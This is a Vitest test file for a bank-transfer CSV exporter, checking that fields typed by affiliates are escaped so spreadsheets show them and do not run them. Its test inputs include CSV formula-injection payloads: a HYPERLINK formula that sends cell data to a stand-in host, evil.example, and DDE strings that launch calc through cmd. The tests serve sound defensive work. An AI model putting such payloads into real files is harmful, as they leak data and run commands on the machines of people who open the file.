import { describe, expect, it } from 'vitest';
import { bankTransferCsv, spreadsheetSafe } from '../../../adapters/cli/csv-bank-transfer-batch';
import type { BankTransfer } from '../../../application/ports/bank-transfer-batch';
import type { BankDetails } from '../../../domain/affiliates/bank-details';

const honest: BankDetails = {
  firstName: 'Ada',
  lastName: 'Lovelace',
  bankName: 'Bank of Example',
  country: 'GB',
  sortCode: '12-34-56',
  accountNumber: '12345678',
  iban: null,
  swiftBic: null,
};

function transfer(bankDetails: Partial<BankDetails>): BankTransfer {
  return {
    payoutId: 'payout-1',
    affiliateId: 'affiliate-1',
    amountMinor: 2_700,
    currency: 'GBP',
    bankDetails: { ...honest, ...bankDetails },
  };
}

/** The cells of each data row of a CSV whose cells hold no comma, quote or line break of their own. */
function cellsOf(csv: string): string[][] {
  return csv
    .trim()
    .split('\n')
    .slice(1)
    .map((line) => line.split(',').map((cell) => (cell.startsWith('"') ? cell.slice(1, -1) : cell)));
}

describe('the bank transfer batch a spreadsheet opens', () => {
  it.each<[string, string, string]>([
    [
      'a formula',
      '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
    ],
    ['a plus', "+SUM(1+1)*cmd|' /C calc'!A0", `'+SUM(1+1)*cmd|' /C calc'!A0`],
    ['a minus', "-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
    ['an at sign', '@SUM(1)', `'@SUM(1)`],
    ['a tab', '\t=1+1', `'\t=1+1`],
    ['a carriage return', '\r=1+1', `'\r=1+1`],
    ['a plain name', 'Ada', 'Ada'],
    ['a formula sign inside', 'Smith=Jones', 'Smith=Jones'],
  ])('writes a cell starting with %s so that it is shown, not run', (_name, typed, written) => {
    expect(spreadsheetSafe(typed)).toBe(written);
  });

  it('escapes every field an affiliate types, quoting each escaped cell, and leaves honest rows as they were', () => {
    const csv = bankTransferCsv([
      transfer({ firstName: '=1+2', lastName: '+3', bankName: '@SUM(1)', country: '-GB', sortCode: '\t1', iban: '=X' }),
      transfer({ accountNumber: '=HYPERLINK(1)', swiftBic: '@A' }),
      transfer({}),
    ]);
    const lines = csv.trim().split('\n');
    expect(lines[1]).toBe(
      `payout-1,"'=1+2","'+3","'@SUM(1)","'-GB","'\t1",12345678,"'=X",,27.00,GBP,SPLITPENNY payout-1`,
    );
    expect(cellsOf(csv)[1]).toEqual([
      'payout-1',
      'Ada',
      'Lovelace',
      'Bank of Example',
      'GB',
      '12-34-56',
      "'=HYPERLINK(1)",
      '',
      "'@A",
      '27.00',
      'GBP',
      'SPLITPENNY payout-1',
    ]);
    expect(lines[3]).toBe('payout-1,Ada,Lovelace,Bank of Example,GB,12-34-56,12345678,,,27.00,GBP,SPLITPENNY payout-1');
  });
});
